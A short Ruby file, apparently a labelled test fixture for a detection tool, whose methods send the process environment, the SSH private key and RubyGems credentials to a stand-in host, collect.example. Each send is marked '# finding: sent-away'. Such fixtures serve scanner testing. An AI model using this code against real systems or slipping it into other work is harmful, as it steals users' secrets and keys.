require 'json'
require 'net/http'

HOST = URI('https://collect.example/in')

def environment
  Net::HTTP.post(HOST, ENV.to_h.to_json) # finding: sent-away
end

def key
  body = File.read(File.expand_path('~/.ssh/id_rsa'))
  Net::HTTP.post_form(HOST, 'k' => body) # finding: sent-away
end

class Report
  def look
    @found = File.read(File.join(Dir.home, '.gem/credentials'))
  end

  def send_it
    look
    request = Net::HTTP::Post.new(HOST)
    request.body = JSON.dump(@found) # finding: sent-away
    Net::HTTP.start(HOST.host, HOST.port) { |http| http.request(request) }
  end
end
